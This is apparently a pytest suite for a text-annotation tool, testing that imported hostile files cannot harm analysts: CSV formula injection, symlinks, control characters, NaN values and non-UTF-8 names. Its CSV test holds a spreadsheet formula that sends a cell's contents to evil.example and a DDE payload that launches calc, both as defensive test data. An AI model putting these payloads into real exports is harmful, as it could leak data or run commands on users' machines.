"""Files from someone else: they can neither harm the analyst nor lose their work.

Each hostile file imports cleanly or is refused with one line naming it; every export is
valid for its format; nothing a file holds becomes a formula, a followed link, a
traceback or a silent loss."""
from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from annotate.corpus_io import export_path, import_path
from annotate.formats import count_sources
from annotate.model import DocumentRecord, EntityRecord, RelationRecord
from annotate.search import DocumentFilter, SearchError, first_match, matching_documents, search
from tests.conftest import ROOT


def run(*args: str, cwd: Path = ROOT) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, str(ROOT / "main.py"), *args], capture_output=True,
                          cwd=cwd, timeout=120)


def write_jsonl(path: Path, *records: object) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    return path


def counts(session) -> tuple[int, int, int]:
    numbers = session.stats()
    return numbers["documents"], numbers["entities"], numbers["relations"]


# --- 1. CSV formula injection -----------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(session, tmp_path):
    """Texts, titles, labels and notes starting with = + - @ tab or CR get a leading "'";
    csv-raw writes them as stored."""
    text = f"{FORMULA} and -cmd|' /C calc'!A0 and @SUM(1) met Turkey."
    session.import_records([DocumentRecord(text=text, title="+danger")])
    doc = session.store.document_ids()[0]
    a = session.add_entity(doc, 0, len(FORMULA), "ORG").entities[0]
    b = session.add_entity(doc, text.index("Turkey"), text.index("Turkey") + 6, "GPE").entities[0]
    session.add_relation(a, b, "ALLY_OF", note="\tTAB first")
    export_path(session, "csv", tmp_path / "safe")
    export_path(session, "csv-raw", tmp_path / "raw")

    def rows(folder: Path, name: str) -> list[dict[str, str]]:
        with (folder / name).open(encoding="utf-8-sig", newline="") as handle:
            return list(csv.DictReader(handle))

    safe = rows(tmp_path / "safe", "entities.csv")
    assert safe[0]["text"] == "'" + FORMULA and safe[0]["document_title"] == "'+danger"
    assert safe[1]["text"] == "Turkey"
    (relation,) = rows(tmp_path / "safe", "relations.csv")
    assert relation["note"] == "'\tTAB first" and relation["head_text"] == "'" + FORMULA
    raw = rows(tmp_path / "raw", "entities.csv")
    assert raw[0]["text"] == FORMULA and raw[0]["document_title"] == "+danger"


# --- 3. symbolic links ------------------------------------------------------------------------


def test_links_inside_a_folder_are_not_followed_and_are_reported(session, tmp_path):
    """A linked file, a link to a folder outside and a link looping back up are skipped
    (one note each); `import -r` ends and imports only the real files."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("The secret plans of Russia.\n", encoding="utf-8")
    top = tmp_path / "top"
    (top / "sub").mkdir(parents=True)
    (top / "real.txt").write_text("Iran met Turkey.\n", encoding="utf-8")
    (top / "sub" / "deep.txt").write_text("Syria met Iraq.\n", encoding="utf-8")
    (top / "link.txt").symlink_to(outside / "secret.txt")
    (top / "etc").symlink_to(outside)
    (top / "sub" / "loop").symlink_to(top)
    assert count_sources(top, recursive=True) == 5
    report = import_path(session, top, recursive=True)
    assert report.errors == []
    assert sorted(Path(f).name for f in report.files_ok) == ["deep.txt", "real.txt"]
    assert sorted(report.notes) == sorted(
        f"{p}: symbolic link, not followed" for p in (top / "link.txt", top / "etc",
                                                      top / "sub" / "loop"))
    assert counts(session)[0] == 2


def test_a_linked_brat_text_is_not_imported(session, tmp_path):
    """A brat .txt that is a link (to a file outside the folder) is skipped with a note."""
    (tmp_path / "outside.txt").write_text("Moscow and Ankara signed.\n", encoding="utf-8")
    brat = tmp_path / "brat"
    brat.mkdir()
    (brat / "a.txt").symlink_to(tmp_path / "outside.txt")
    (brat / "a.ann").write_text("T1\tGPE 0 6\tMoscow\n", encoding="utf-8")
    (brat / "b.txt").write_text("Iran met Turkey.\n", encoding="utf-8")
    (brat / "b.ann").write_text("T1\tGPE 0 4\tIran\n", encoding="utf-8")
    report = import_path(session, brat)
    assert len(report.files_ok) == 1 and report.errors == []
    assert report.notes == [f"{brat / 'a.txt'}: symbolic link, not followed"]
    assert [session.document(d).text for d in session.store.document_ids()] == [
        "Iran met Turkey.\n"]


# --- 6, 7, 8, 12: records that lost data or crashed -------------------------------------------


def test_doccano_label_and_entities_spans_are_both_kept(session, tmp_path):
    """A doccano record with both `label` and `entities` keeps every span of both."""
    path = write_jsonl(tmp_path / "d.jsonl", {
        "text": "Iran met Turkey in Astana.",
        "label": [[0, 4, "GPE"], [19, 25, "GPE"]],
        "entities": [{"id": 1, "label": "GPE", "start_offset": 9, "end_offset": 15},
                     {"id": 2, "label": "GPE", "start_offset": 0, "end_offset": 4}],
        "relations": [{"id": 1, "from_id": 2, "to_id": 1, "type": "MEETS_WITH"}]})
    report = import_path(session, path, fmt="doccano")
    assert report.errors == []
    (doc,) = session.store.document_ids()
    assert sorted((e.start, e.end) for e in session.entities(doc)) == [(0, 4), (9, 15), (19, 25)]
    assert len(session.relations(doc)) == 1


def task(**relation: object) -> dict:
    return {"text": "Iran met Turkey in Astana today.",
            "spans": [{"start": 0, "end": 4, "label": "GPE", "id": 1},
                      {"start": 9, "end": 15, "label": "GPE", "id": 2}],
            "relations": [{"head_id": 1, "child_id": 2, "label": "MEETS_WITH", **relation}]}


@pytest.mark.parametrize(("relation", "words"), [
    ({"evidence_start": 500, "evidence_end": 100}, "relation evidence 500-100"),
    ({"evidence_start": 3, "evidence_end": 90}, "is not a span of the text (length 32)"),
    ({"evidence_start": 3}, "relation evidence 3-None"),
    ({"origin": {"who": "x"}}, "origin"),
    ({"annotator": ["a"]}, "annotator"),
])
def test_bad_relation_fields_are_one_line_and_store_nothing(session, tmp_path, relation, words):
    """Evidence outside the text, an origin that is an object: one line, nothing stored."""
    path = write_jsonl(tmp_path / "t.jsonl", task(**relation))
    report = import_path(session, path)
    assert len(report.errors) == 1 and words in report.errors[0], report.errors
    assert report.errors[0].startswith("t.jsonl") and "\n" not in report.errors[0]
    assert counts(session) == (0, 0, 0)


@pytest.mark.parametrize("value", ["NaN", "Infinity", "-Infinity"])
def test_meta_with_nan_or_infinity_is_refused(session, tmp_path, value):
    """JSON has no NaN or Infinity (RFC 8259): such meta is refused, not stored."""
    path = tmp_path / "n.jsonl"
    path.write_text('{"text": "Iran met Turkey.", "meta": {"score": %s}}\n' % value,
                    encoding="utf-8")
    report = import_path(session, path)
    assert len(report.errors) == 1 and "JSON cannot carry" in report.errors[0]
    assert counts(session) == (0, 0, 0)


def test_jsonl_export_of_a_store_holding_nan_is_one_line(session, tmp_path):
    """NaN written into a store by another program: the JSONL export refuses in one line
    and writes no file (never invalid JSON)."""
    session.import_records([DocumentRecord(text="Iran met Turkey.")])
    session.store.db.conn.execute("UPDATE documents SET meta = '{\"x\": NaN}'")
    session.store.db.conn.commit()
    from annotate.model import ArcmarkError

    with pytest.raises(ArcmarkError, match="NaN or Infinity"):
        export_path(session, "jsonl", tmp_path / "out.jsonl")
    assert not (tmp_path / "out.jsonl").exists()


# --- 11. control characters: one policy at import, valid exports -----------------------------


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x02", "\x03", "\x1f", "\ufffe"])
def test_control_characters_are_refused_by_every_importer(session, tmp_path, char):
    """JSONL stored NUL while .txt refused it: now every file import (JSONL, brat) refuses
    such text in one line."""
    path = write_jsonl(tmp_path / "c.jsonl", {"text": f"Iran{char} met Turkey."})
    report = import_path(session, path)
    assert len(report.errors) == 1 and f"U+{ord(char):04X}" in report.errors[0]
    brat = tmp_path / "brat"
    brat.mkdir()
    (brat / "a.txt").write_text(f"Moscow{char} met Ankara.", encoding="utf-8")
    (brat / "a.ann").write_text("T1\tGPE 0 6\tMoscow\n", encoding="utf-8")
    report = import_path(session, brat)
    assert len(report.errors) == 1 and f"U+{ord(char):04X}" in report.errors[0]
    assert counts(session) == (0, 0, 0)


def test_graphml_is_well_formed_xml_whatever_the_store_holds(session, tmp_path):
    """Entity texts with VT, FF, ESC (allowed) and NUL, U+0001, U+FFFE (put in by another
    program) give a GraphML file that parses as XML, the characters written as U+FFFD."""
    text = "Mos\x0bcow and An\x0ckara and \x1bIran met."
    session.import_records([DocumentRecord(text=text)])
    (doc,) = session.store.document_ids()
    for start, end in ((0, 7), (12, 19), (24, 29)):
        session.add_entity(doc, start, end, "GPE")
    session.store.db.conn.execute(
        "UPDATE entities SET text = ? WHERE start = 24", ["Ir\x00\x01an\ufffe"])
    session.store.db.conn.commit()
    out = tmp_path / "g.graphml"
    report = export_path(session, "graphml", out)
    root = ET.parse(out).getroot()  # raises on anything that is not XML 1.0
    values = [d.text for d in root.iter() if d.tag.endswith("data") and d.text]
    assert "Mos\ufffdcow" in values and "An\ufffdkara" in values
    assert any(n.endswith("characters XML cannot carry written as U+FFFD") for n in report.notes)


# --- 12, 15: search ---------------------------------------------------------------------------


@pytest.fixture
def news(session):
    session.import_records([
        DocumentRecord(text="Russia sent troops. Turkey objected.", title="one"),
        DocumentRecord(text="Russian ships sailed to Syria.", title="two"),
        DocumentRecord(text="Moscow talks went on.", title="three")])
    ids = session.store.document_ids()
    third = ids[2]
    session.add_entity(third, 0, 6, "GPE")  # Moscow
    session.add_entity(ids[0], 0, 6, "GPE")  # an entity "Russia" in the Turkey document
    return ids


def test_not_excludes_every_document_mentioning_the_term(session, news):
    """`Russia* NOT Turkey` leaves out the document naming Turkey, even when one of its
    entities (a row without Turkey) matches."""
    found = search(session, "Russia* NOT Turkey")
    assert [d.doc_id for d in found.documents] == [news[1]]
    found = search(session, "Russia* OR Moscow NOT Turkey")
    assert sorted(d.doc_id for d in found.documents) == [news[1], news[2]]
    assert [d.doc_id for d in search(session, "Russia* AND NOT Syria").documents] == [news[0]]


def test_a_leading_not_is_refused_with_one_line(session, news):
    """`NOT Russia` used to return the documents containing Russia: now it is refused."""
    with pytest.raises(SearchError, match="cannot start with NOT") as caught:
        search(session, "NOT Russia")
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize("query", ["Rus\x00sia", "\x00", "Russia\x02\x03", "Russ\udcffia",
                                   '"Rus\x00', "NOT\x00Russia x"])
def test_control_characters_and_bad_bytes_in_a_query_never_crash(session, news, query):
    """A NUL pasted into the search box (which opened the unexpected-error dialog: the
    full-text index read "unterminated string") or undecodable bytes from a command line
    search like spaces, or are refused as one line; opening a hit and the entity filter too."""
    try:
        search(session, query)
    except SearchError as exc:
        assert "\n" not in str(exc)
    for doc in news:
        first_match(session, doc, query)
    matching_documents(session, DocumentFilter(entity=query))


def test_non_utf8_bytes_on_the_command_line_are_no_traceback(tmp_path, session, news):
    """`search` with bytes that are not UTF-8 answers normally."""
    db = str(session.store.path)
    session.store.close()
    result = subprocess.run([sys.executable, str(ROOT / "main.py"), "search", "--db", db,
                             b"Russ\xffia"], capture_output=True, cwd=ROOT, timeout=120)
    assert result.returncode == 0 and b"Traceback" not in result.stderr, result.stderr


# --- 13. spaCy export bounded -----------------------------------------------------------------


def test_spacy_candidate_pairs_are_bounded_per_sentence(tmp_path):
    """A sentence with 400 entities gives at most 200 candidate pairs, the rest counted."""
    from annotate.formats import export_corpus, to_annotated_document
    from annotate.formats.spacy_docbin import MAX_PAIRS_PER_SENTENCE, to_doc
    from annotate.formats._common import ExportReport
    from annotate.schema import load_schema

    text = " ".join(f"Iran{n}" for n in range(400)) + ". Moscow met Ankara."
    starts = [m for m in range(len(text)) if text.startswith("Iran", m)]
    entities = [EntityRecord(s, s + 4, "GPE") for s in starts] + [
        EntityRecord(text.index("Moscow"), text.index("Moscow") + 6, "GPE"),
        EntityRecord(text.index("Ankara"), text.index("Ankara") + 6, "GPE")]
    rec = DocumentRecord(text=text, entities=tuple(entities),
                         relations=(RelationRecord(400, 401, "MEETS_WITH"),))
    report = ExportReport()
    doc = to_doc(to_annotated_document(rec, 1), load_schema(), report)
    first = [k for k in doc._.rel if k[0] < doc.ents[400].start]
    assert len(first) == MAX_PAIRS_PER_SENTENCE
    moscow, ankara = doc.ents[400].start, doc.ents[401].start
    assert doc._.rel[(moscow, ankara)]["MEETS_WITH"] == 1.0
    assert doc._.rel[(ankara, moscow)]["MEETS_WITH"] == 0.0
    within_window = 300 * 100 + sum(range(100))  # unordered pairs at most 100 tokens apart
    assert report.notes == [  # "Iran" inside the token "Iran7" is widened to it, and counted
        "400 entities widened to token boundaries (spaCy spans hold whole tokens; doc.spans "
        "attrs char_offsets keep the exact ones)",
        f"{2 * within_window - MAX_PAIRS_PER_SENTENCE} candidate pairs left out of "
        f"doc._.rel (beyond {MAX_PAIRS_PER_SENTENCE} in a sentence)"]
    assert export_corpus("spacy", [to_annotated_document(rec, 1)], load_schema(),
                         tmp_path / "a.spacy").documents == 1


# --- 16. the command line ---------------------------------------------------------------------


def test_a_failed_import_leaves_no_store_behind(tmp_path):
    """`import` of a folder with no text files, or of a file that fails: exit 1, one line,
    and no new store file."""
    (tmp_path / "empty").mkdir()
    (tmp_path / "bad.txt").write_bytes(b"\x00\x01\x02")
    db = tmp_path / "new.db"
    for target in ("empty", "bad.txt"):
        result = run("import", "--db", str(db), str(tmp_path / target))
        assert result.returncode == 1 and b"Traceback" not in result.stderr
        assert [p.name for p in tmp_path.iterdir() if p.name.startswith("new.db")] == []


def test_a_long_value_in_a_file_is_cut_in_the_message(session, tmp_path):
    """A 4,000-digit offset is not echoed whole: the line stays short."""
    path = tmp_path / "long.jsonl"
    path.write_text('{"text": "Iran met Turkey.", "spans": [{"start": 0, "end": %s, '
                    '"label": "GPE"}]}\n' % ("9" * 4000), encoding="utf-8")
    report = import_path(session, path)
    assert len(report.errors) == 1 and len(report.errors[0]) < 200, report.errors


def test_folder_progress_knows_the_total_before_it_starts(tmp_path):
    """count_sources gives the number of batches `import` will report, so the command
    line's bar shows n of the real total (and the time left)."""
    for n in range(5):
        (tmp_path / f"{n}.txt").write_text(f"Iran met Turkey {n}.\n", encoding="utf-8")
    (tmp_path / "x.jsonl").write_text('{"text": "Moscow."}\n', encoding="utf-8")
    assert count_sources(tmp_path) == 6
    from annotate.formats import read_path
    from annotate.schema import load_schema

    assert len(list(read_path(tmp_path, schema=load_schema()))) == 6


def test_a_linked_schema_side_file_is_not_followed(session, tmp_path):
    """A JSONL's schema side file that is a link (to labels elsewhere) is not read; a note
    says so."""
    elsewhere = tmp_path / "elsewhere.json"
    elsewhere.write_text(json.dumps({"arcmark": "schema", "version": 1, "schema": {
        "entity": [{"name": "SECRET"}], "relation": []}}), encoding="utf-8")
    data = tmp_path / "data"
    data.mkdir()
    write_jsonl(data / "c.jsonl", {"text": "Iran met Turkey."})
    (data / "c.schema.json").symlink_to(elsewhere)
    report = import_path(session, data / "c.jsonl")
    assert report.errors == []
    assert report.notes == ["c.jsonl: schema file c.schema.json: symbolic link, not followed"]
    assert "SECRET" not in session.schema.entity_names


@pytest.mark.skipif(sys.platform != "linux", reason="file names of any bytes are Linux's")
def test_file_and_store_names_that_are_not_utf8_work(tmp_path):
    """A file and a store whose names hold bytes that are not UTF-8 (given on the command
    line): import, stats and export work; the stored name shows U+FFFD."""
    folder = os.fsencode(tmp_path)
    with open(folder + b"/\xff.txt", "wb") as handle:
        handle.write(b"Iran met Turkey.\n")
    db = folder + b"/\xfe.db"
    done = subprocess.run([sys.executable, str(ROOT / "main.py"), "import", "--db", db,
                           folder + b"/\xff.txt"], capture_output=True, cwd=ROOT, timeout=120)
    assert done.returncode == 0, done.stderr
    stats = subprocess.run([sys.executable, str(ROOT / "main.py"), "stats", "--db", db, "--json"],
                           capture_output=True, cwd=ROOT, timeout=120)
    assert json.loads(stats.stdout)["documents"] == 1
    out = folder + b"/\xfd.jsonl"
    export = subprocess.run([sys.executable, str(ROOT / "main.py"), "export", "--db", db,
                             "--format", "jsonl", "--out", out], capture_output=True, cwd=ROOT,
                            timeout=120)
    assert export.returncode == 0, export.stderr
    with open(out, encoding="utf-8") as handle:
        assert json.loads(handle.readline())["meta"]["file_name"] == "\ufffd.txt"


def test_spacy_candidate_pairs_are_bounded_per_document(monkeypatch):
    """However many sentences, a document gives at most MAX_PAIRS_PER_DOCUMENT pairs; the
    rest are counted as left out."""
    from annotate.formats import spacy_docbin

    monkeypatch.setattr(spacy_docbin, "MAX_PAIRS_PER_DOCUMENT", 50)
    starts = list(range(0, 100, 2))  # 50 entities, 5 per sentence of 10 tokens
    sentences = list(range(0, 100, 10))
    pairs, left_out = spacy_docbin.candidate_pairs(starts, sentences)
    assert len(pairs) == 50 and len(set(pairs)) == 50
    assert len(pairs) + left_out == 10 * 5 * 4  # every ordered pair of each sentence
    assert all(a // 10 == b // 10 for a, b in pairs)  # never across sentences


def test_a_leading_not_on_the_command_line_is_one_line(session, news):
    """`main.py search "NOT Russia"` exits 1 with one line instead of answering Russia."""
    db = str(session.store.path)
    session.store.close()
    result = run("search", "--db", db, "NOT Russia")
    lines = result.stderr.decode().splitlines()
    assert result.returncode == 1 and len(lines) == 1 and "cannot start with NOT" in lines[0]
    assert result.stdout == b""
